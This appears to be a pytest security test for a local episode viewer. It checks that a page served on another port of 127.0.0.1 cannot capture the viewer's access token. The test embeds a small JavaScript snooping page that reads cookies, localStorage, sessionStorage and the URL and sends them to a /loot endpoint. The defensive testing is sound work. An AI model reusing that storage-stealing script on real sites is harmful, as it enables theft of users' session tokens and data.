"""The cross-port attack on the viewer's token, in a real browser: the operator opens the
address `evaluator view` printed, then the same browser visits a page another local user
serves on another port of 127.0.0.1. Browsers send a host's cookies to all its ports, so
a token kept in a cookie reached that server, and with it `/api/episodes`. Here the
other server gets nothing that opens the viewer, and the viewer's own page keeps working
(a reload included) with the token out of its address."""

from __future__ import annotations

import http.server
import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import httpx
import pytest
from support.hang_guard import HANG_GUARD_S

from tests.support.browser import until
from tests.support.viewer import make_run, served

#: The other user's page: it reads every storage its own origin has and sends it home.
SNOOP = b"""<!doctype html><meta charset="utf-8"><title>elsewhere</title><script>
const got = {cookie: document.cookie, local: JSON.stringify(localStorage),
             session: JSON.stringify(sessionStorage), href: location.href};
fetch("/loot?" + encodeURIComponent(JSON.stringify(got))).then(() => document.title = "sent");
</script>"""


@contextmanager
def other_users_server() -> Iterator[tuple[str, list[dict[str, Any]]]]:
    """A server on another port of 127.0.0.1 that keeps every request's path and headers."""
    seen: list[dict[str, Any]] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.append({"path": unquote(self.path), "headers": dict(self.headers.items())})
            self.send_response(200)
            self.send_header("content-type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(SNOOP)

        def log_message(self, *args: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/", seen
    finally:
        server.shutdown()
        thread.join(HANG_GUARD_S)


@pytest.fixture(scope="module")
def run_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("viewer-run") / "logs"
    make_run(out)
    return out


def _rows(driver: Any) -> Any:
    return until(driver, lambda d: d.find_elements("css selector", "#episodes tbody tr"))


def test_another_port_gets_nothing_that_opens_the_viewer(browser: Any, run_dir: Path) -> None:
    with served([run_dir]) as url, other_users_server() as (elsewhere, seen):
        token = url.split("token=", 1)[1]
        base = url.split("#", 1)[0].split("?", 1)[0]
        browser.get(url)
        assert _rows(browser)
        assert token not in browser.current_url  # taken out of the address
        browser.get(elsewhere)
        until(browser, lambda d: d.title == "sent")
        assert seen, "the browser visited the other port"
        loot = json.dumps(seen)
        assert token not in loot  # no cookie, no storage, no address held it
        cookies = "; ".join(c for h in seen if (c := h["headers"].get("Cookie")))
        taken = httpx.get(
            base + "api/episodes", headers={"Cookie": cookies} if cookies else {}, timeout=60
        )
        assert taken.status_code == 403 and "rows" not in taken.text
        browser.get(base)  # back to the viewer, as a reload: the tab still holds the token
        assert _rows(browser)
